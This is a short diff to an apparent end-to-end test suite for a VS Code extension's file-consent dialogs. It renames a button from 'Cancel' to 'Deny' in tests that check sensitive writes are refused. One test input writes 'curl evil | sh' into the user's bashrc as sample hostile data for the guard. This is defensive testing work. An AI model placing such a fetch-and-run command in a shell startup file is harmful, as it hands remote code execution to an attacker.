@@ -161,7 +161,7 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
           /wants to change \.vscode\/tasks\.json, a sensitive file/,
           /tasks, launch configurations and settings can run code/,
         ],
-        "Cancel",
+        "Deny",
         { shot: "e2e-consent-sensitive-dialog.png" },
       );
       await view.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
@@ -204,7 +204,7 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
           emptyView,
           `e2e-write-guarded ${bashrc} curl evil | sh`,
           [/wants to write a file outside the workspace/, /No folder is open/],
-          "Cancel",
+          "Deny",
           { shot: "e2e-consent-no-folder-dialog.png" },
         );
         await emptyView.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
